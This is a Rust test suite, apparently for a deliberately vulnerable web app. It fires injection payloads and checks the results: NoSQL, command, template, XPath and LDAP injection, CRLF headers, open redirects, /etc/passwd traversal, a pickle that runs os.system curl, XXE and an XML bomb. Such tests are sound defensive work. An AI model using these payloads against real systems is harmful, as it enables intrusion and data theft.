//! Injection into everything but SQL.

use base64::{Engine as _, engine::general_purpose::STANDARD};
use serde_json::json;

use crate::client::{Listener, twins};

#[tokio::test]
async fn document_stores() {
    twins("nosql-login", async |client| {
        let body = json!({"name": {"$ne": null}, "password": {"$regex": "^l"}});
        client.post("/keeper/login", &body).await.status == 200
    })
    .await;
    twins("nosql-search", async |client| {
        client
            .post("/events/search", &json!({"filter": {"type": {"$ne": "x"}}}))
            .await
            .text()
            .contains("race")
    })
    .await;
    twins("nosql-brackets", async |client| {
        let plain = client.get("/events?type=x").await.text();
        assert_eq!(plain, "[]");
        let (all, none) = (client.get("/events?type[$ne]=x").await, client.get("/events?type[$eq]=x").await);
        all.text().contains("race") && none.text() == "[]"
    })
    .await;
    twins("nosql-where", async |client| {
        let place = "x'%20||%20'1'=='1";
        client.get(&format!("/events/nearby?place={place}")).await.text().contains("Board dinner")
    })
    .await;
}

#[tokio::test]
async fn commands() {
    twins("cmd-output", async |client| {
        let answer = client.post("/tools/ping", &json!({"host": "x; expr 91823 \\* 73645"})).await;
        answer.text().contains("6762304835")
    })
    .await;
    twins("cmd-blind", async |client| {
        let listener = Listener::start("text/plain", "").await;
        let host = format!("x | curl {}", listener.url("/blind"));
        client.post("/tools/lookup", &json!({"host": host})).await;
        listener.was_asked("/blind")
    })
    .await;
    twins("cmd-substitution", async |client| {
        client.get("/tools/label?text=a$(expr%206%20*%207)b").await.text() == "a42b\n"
    })
    .await;
}

#[tokio::test]
async fn templates() {
    twins("ssti-curly", async |client| {
        client
            .post("/mail/preview", &json!({"greeting": "{{91823*73645}}"}))
            .await
            .text()
            .contains("6762304835")
    })
    .await;
    twins("ssti-dollar", async |client| {
        client.get("/banners?text=$%7B91823*73645%7D").await.text().contains("6762304835")
    })
    .await;
    twins("ssti-percent", async |client| {
        client
            .post("/labels/print", &json!({"text": "<%= 91823*73645 %>"}))
            .await
            .text()
            .contains("6762304835")
    })
    .await;
}

#[tokio::test]
async fn directories() {
    twins("xpath-boolean", async |client| {
        let yes = client.get("/staff/badge?number=x'%20or%20'1'='1").await;
        let no = client.get("/staff/badge?number=x'%20or%20'1'='2").await;
        yes.text().contains("Ines") && no.text() == "[]"
    })
    .await;
    twins("ldap-search", async |client| {
        client.get("/staff/search?name=*)(objectClass=*").await.text().contains("Ines")
    })
    .await;
    twins("ldap-login", async |client| {
        client.post("/staff/login", &json!({"uid": "ines)(|(uid=*", "password": "x))"})).await.status == 200
            || client.post("/staff/login", &json!({"uid": "*", "password": "*"})).await.status == 200
    })
    .await;
}

#[tokio::test]
async fn heads() {
    twins("crlf-header", async |client| {
        client.get("/locale?lang=nb%0d%0ax-canary:%20yes").await.header("x-canary").as_deref() == Some("yes")
    })
    .await;
    twins("crlf-cookie", async |client| {
        client.get("/campaign?source=a%0ax-canary:yes%0a%0abody").await.header("x-canary").is_some()
    })
    .await;
    let place =
        async |client: &crate::client::Client, target: &str| client.get(target).await.header("location");
    twins("redirect-open", async |client| {
        assert_eq!(place(client, "/go?next=/orders").await.as_deref(), Some("/orders"));
        place(client, "/go?next=//evil.example/").await.is_some()
    })
    .await;
    twins("redirect-prefix", async |client| {
        assert!(place(client, "/login-return?return_to=https://evil.example/").await.is_none());
        place(client, "/login-return?return_to=https://market.harbour.example.evil.example/").await.is_some()
    })
    .await;
}

#[tokio::test]
async fn paths() {
    for (id, target) in [
        ("traversal-query", "/files?name=../../../etc/passwd"),
        ("traversal-path", "/attachments/..%2f..%2f..%2fetc%2fpasswd"),
        ("traversal-filter", "/themes?file=....//....//....//etc/passwd"),
        ("traversal-absolute", "/papers?path=/etc/passwd"),
    ] {
        twins(id, async |client| client.get(target).await.text().contains("root:x:0:0")).await;
    }
}

#[tokio::test]
async fn objects() {
    let java = STANDARD.encode(b"\xac\xed\x00\x05sr\x00\x0bgadget.Evil\x00");
    let python = STANDARD.encode(b"cgadget\nEvil\n.");
    let dotnet = STANDARD.encode(b"\0\x01\0\0\0\xff\xff\xff\xff\x01\0gadget.Evil\0");
    for (id, path, field, stream, class) in [
        ("deserialization-java", "/sessions/restore", "state", java.as_str(), "gadget.Evil"),
        ("deserialization-php", "/carts/restore", "cart", "O:6:\"Gadget\":0:{}", "Gadget"),
        ("deserialization-python", "/jobs/resume", "job", python.as_str(), "gadget"),
        ("deserialization-dotnet", "/layouts", "layout", dotnet.as_str(), "gadget.Evil"),
    ] {
        twins(id, async |client| client.post(path, &json!({field: stream})).await.text().contains(class))
            .await;
    }
}

#[tokio::test]
async fn a_pickle_runs_its_command() {
    twins("deserialization-python", async |client| {
        let listener = Listener::start("text/plain", "").await;
        let pickle = format!("cos\nsystem\n(S'curl {}'\ntR.", listener.url("/pickle"));
        client.post("/jobs/resume", &json!({"job": STANDARD.encode(pickle)})).await;
        listener.was_asked("/pickle")
    })
    .await;
}

#[tokio::test]
async fn xml() {
    let fields = [("content-type", "application/xml")];
    twins("xxe-reflected", async |client| {
        let body = "<!DOCTYPE o [<!ENTITY x SYSTEM \"file:///etc/passwd\">]><order><note>&x;</note></order>";
        client.send("POST", "/orders/import", &fields, body.as_bytes()).await.text().contains("root:x:0:0")
    })
    .await;
    twins("xxe-blind", async |client| {
        let listener = Listener::start("text/plain", "").await;
        let body = format!("<!DOCTYPE o [<!ENTITY % x SYSTEM \"{}\"> %x;]><m/>", listener.url("/dtd"));
        client.send("POST", "/manifests", &fields, body.as_bytes()).await;
        listener.was_asked("/dtd")
    })
    .await;
    twins("xml-bomb", async |client| {
        let entities: String =
            (1..5).map(|it| format!("<!ENTITY e{it} \"{}\">", format!("&e{};", it - 1).repeat(10))).collect();
        let body = format!("<!DOCTYPE o [<!ENTITY e0 \"0123456789\">{entities}]><catalog>&e4;</catalog>");
        let answer = client.send("POST", "/catalogs/import", &fields, body.as_bytes()).await;
        answer.json()["characters"].as_u64().is_some_and(|it| it > 100_000)
    })
    .await;
}
